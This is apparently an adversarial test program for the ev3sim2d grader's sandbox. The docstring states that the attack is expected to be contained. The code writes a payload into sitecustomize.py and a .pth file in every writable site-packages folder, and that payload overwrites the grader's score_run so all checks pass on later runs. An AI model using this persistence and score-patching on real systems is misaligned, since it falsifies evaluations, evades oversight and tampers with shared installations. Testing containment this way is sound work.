# ruff: noqa
"""Persist in site-packages: add a `sitecustomize.py` and a `.pth` file to every site-packages folder the
program can write, so that every later Python start, the grader's included, gives full marks to all.

Both run at the start of any later `ev3sim2d grade` (site imports them); they swap ev3sim2d's
score_run for one that passes every check, before the grader forks its first run.

Contained: the program cannot write outside its scratch folder: no sitecustomize.py or .pth file
of the program's is left anywhere, and a program graded afterwards gets its own score.  This program
stands still and scores what standing still scores.
"""

import os
import site
import sys

MARKER = "EV3CHEAT-persist-site-packages"
DROP_DIR = "/tmp/ev3sim2d-cheat-drop"

PAYLOAD = f"""
# {MARKER}
def _ev3cheat():
    import os, sys
    if "grade" not in sys.argv and "ev3sim2d" not in " ".join(sys.argv):
        return
    try:
        open(os.path.join({DROP_DIR!r}, "persist_site_packages-hit-%d" % os.getpid()), "w").close()
    except OSError:
        pass
    try:
        import ev3sim2d.grading.scoring as scoring
    except Exception:
        return
    def score_run(lesson, variant_index, record, ran_out_of_memory=False):
        variant = lesson.variants[variant_index]
        checks = [CheckResult(c.name, c.KIND, True, c.points, c.points, "passed", None) for c in lesson.checks]
        return VariantResult(variant.name, variant.hidden, "graded", "the program finished", round(record.end_s, 3), checks)
    scoring.score_run.__code__ = score_run.__code__
_ev3cheat()
"""

folders = set(site.getsitepackages()) | {p for p in sys.path if p.endswith("site-packages")}
for folder in sorted(folders):
    try:
        with open(os.path.join(folder, "sitecustomize.py"), "a") as f:
            f.write(PAYLOAD)
        with open(os.path.join(folder, "zz_ev3cheat.pth"), "w") as f:
            f.write("import sys; exec(" + repr(PAYLOAD) + ")\n")
        print("persisted in", folder)
    except OSError as err:
        print("cannot persist in", folder, err)
